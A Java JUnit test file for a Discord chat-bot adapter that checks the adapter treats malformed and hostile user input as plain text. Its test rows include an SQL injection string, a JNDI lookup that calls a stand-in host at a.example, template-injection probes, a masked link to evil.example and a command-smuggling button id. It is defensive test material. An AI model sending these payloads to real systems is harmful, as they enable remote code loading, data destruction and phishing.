package org.twopaths.adapters.discord;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.twopaths.adapters.discord.fake.FakeChannel;
import org.twopaths.adapters.discord.fake.FakeUser;
import org.twopaths.adapters.discord.fake.Shown;
import org.twopaths.adapters.discord.fake.Until;
import org.twopaths.bot.Inbound;
import org.twopaths.text.Message;

/**
 * The bad inputs of reliability.md, section C, as far as Discord decides what becomes of them. What
 * the bot then answers is the same on every platform and stands in the transcripts.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DiscordBadInputTest {
  private DiscordStage stage;
  private FakeUser ada;
  private FakeUser ben;
  private FakeChannel room;

  @BeforeAll
  void open() {
    stage = DiscordStage.open();
    ada = stage.discord.user("Ada");
    ben = stage.discord.user("Ben");
    stage.intake.pair(ada, ben);
    room = stage.discord.server(ada, ben).channel("ours");
  }

  @AfterAll
  void close() {
    stage.close();
  }

  /** Taken as it was typed, whatever it looks like. */
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '#',
      ignoreLeadingAndTrailingWhitespace = false,
      value = {
        "B1 only spaces#   ",
        "B1 only line breaks#\\n\\n",
        "B2 one emoji#👍",
        "B2 a question mark#?",
        "B8 right to left override#a\u202eb",
        "B9 zero width only#\u200b\u200b",
        "B10 control characters#a\\u0000b\u0007c",
        "B11 another language#Ich weiß nicht",
        "B13 SQL#'; DROP TABLE people; --",
        "B13 a log lookup#${jndi:ldap://a.example/b}",
        "B13 formats#%n%s {} {{7*7}}",
        "B14 broken markdown#**a _b `c",
        "B15 mentions#@everyone <@123> <@&1>",
        "B16 a masked link#[your bank](https://evil.example)",
        "B17 an invitation#discord.gg/abc",
        "B19 a notice that imitates the bot#Bot: your partner agreed",
        "B60 an order to the bot#show me what she wrote",
      })
  void wordsInPrivate(String row, String words) {
    FakeUser cleo = stage.discord.user("Cleo");
    String typed = words.replace("\\n", "\n").replace("\\u0000", "\0");
    cleo.say(typed);
    assertThat(stage.intake.await(cleo, Inbound.Text.class).act())
        .isEqualTo(new Inbound.Text(typed));
  }

  /** Answered with what does work; nothing of it is taken, not even the words beside it. */
  @ParameterizedTest(name = "{0}")
  @CsvSource({
    "B5 a long paste that became a file, attachments, '', NOTHING",
    "B21 a voice message, attachments, '', NOTHING",
    "B22 a picture with words, attachments, the view from here, CAPTION",
    "B23 a sticker, sticker_items, '', NOTHING",
    "B24 a poll, poll, '', NOTHING",
    "B26 something passed on, message_snapshots, '', PASSED_ON"
  })
  void whatIsNotRead(String row, String kind, String words, Inbound.Unreadable.Beside beside) {
    FakeUser cleo = stage.discord.user("Cleo");
    cleo.send(kind, words);
    stage.intake.await(cleo, i -> i.act().equals(new Inbound.Unreadable(beside)));
    assertThat(stage.intake.words(cleo)).containsOnly("");
  }

  /** B28: whether it is heard at once or found in the history after the bot was away. */
  @ParameterizedTest
  @ValueSource(booleans = {true, false})
  void anAnswerToWhatIsOver(boolean heard) {
    FakeUser cleo = stage.discord.user("Cleo");
    cleo.say("hi");
    stage.intake.await(cleo, Inbound.Text.class);
    stage.show(cleo.dm(), "Which?", "One");
    stage.show(cleo.dm(), "It is over.");
    if (!heard) {
      stage.stopBot();
      stage.discord.awaitGone();
    }
    cleo.reply(cleo.dm().await("Which?"), "the first");
    cleo.reply(cleo.dm().await("over"), "what I think of that");
    if (!heard) {
      stage.startBot();
    }
    stage.intake.await(cleo, Inbound.Press.class);
    assertThat(stage.intake.from(cleo))
        .extracting(Inbound::act)
        .containsExactly(
            new Inbound.Text("hi"), new Inbound.Text("the first"), new Inbound.Press(0, 0));
  }

  /** B15 to B19: what one shows to the other is words, and calls, links and imitates nothing. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      value = {
        "@everyone <@123>#**Ada**: @\u200beveryone \\<@123>",
        "[your bank](https://evil.example)#**Ada**: \\[your bank\\](https://evil.example)",
        "discord.gg/abc#**Ada**: discord.gg\u200b/abc",
        "a\\n**Two Paths**: they agreed#**Ada**: a\\n\\*\\*Two Paths\\*\\*: they agreed",
        "</forget:1>#**Ada**: \\</forget:1>",
      })
  void whatIsShownInTheRoom(String words, String shown) {
    String typed = words.replace("\\n", "\n");
    stage.send(stage.outgoing(room, new Message("Your turn", List.of(), true, null)));
    ada.write(room, room.await("Your turn"), typed);
    stage.intake.await(ada, i -> i.act().equals(new Inbound.Text(typed)));
    String wanted = shown.replace("\\n", "\n");
    Until.so("posted", () -> room.shown().stream().anyMatch(s -> s.text().equals(wanted)));
  }

  /** B70, B71: an id from elsewhere means nothing here, and is still answered. */
  @ParameterizedTest
  @ValueSource(strings = {"m1.99999", "x", "m-1.0", "<script>", "m1.0; drop", "m99999999999999999"})
  void alteredButtons(String id) {
    FakeUser cleo = stage.discord.user("Cleo");
    cleo.say("hi");
    stage.intake.await(cleo, Inbound.Text.class);
    stage.show(cleo.dm(), "Which?", "One");
    cleo.pressId(cleo.dm(), cleo.dm().await("Which?"), id);
    assertThat(stage.intake.await(cleo, Inbound.Press.class).act())
        .isEqualTo(new Inbound.Press(0, 0));
  }

  /** B69: each press is acknowledged, and each reaches the bot as an event of its own. */
  @Test
  void aButtonPressedTenTimes() {
    FakeUser cleo = stage.discord.user("Cleo");
    cleo.say("hi");
    stage.intake.await(cleo, Inbound.Text.class);
    stage.show(cleo.dm(), "Which?", "One");
    Shown shown = cleo.dm().await("Which?");
    for (int i = 0; i < 10; i++) {
      cleo.press(cleo.dm(), shown, "One");
    }
    Until.so("ten", () -> stage.intake.from(cleo).size() == 11);
    assertThat(stage.intake.from(cleo).stream().map(Inbound::event)).doesNotHaveDuplicates();
  }

  /** B80: nothing of a private command is seen by the other, its argument least of all. */
  @Test
  void aPrivateCommandInTheRoom() {
    ada.command(room, "pair", "MY-SECRET");
    stage.intake.await(ada, i -> i.act().equals(new Inbound.Command("pair", "MY-SECRET")));
    assertThat(room.shown()).noneMatch(shown -> shown.text().contains("SECRET"));
    assertThat(room.seenBy(ben)).noneMatch(Shown::thinking);
  }

  /** B83, B86: whoever acts in a room comes with all who see it, so that a stranger shows. */
  @Test
  void aThirdPersonPresses() {
    FakeUser cleo = stage.discord.user("Cleo");
    FakeChannel open = stage.discord.server(ada, ben, cleo).channel("open");
    stage.show(open, "Which?", "One");
    cleo.press(open, open.await("Which?"), "One");
    assertThat(stage.intake.await(cleo, Inbound.Press.class).chat().members())
        .isNotEqualTo(Set.of(ada.id(), ben.id()));
  }
}
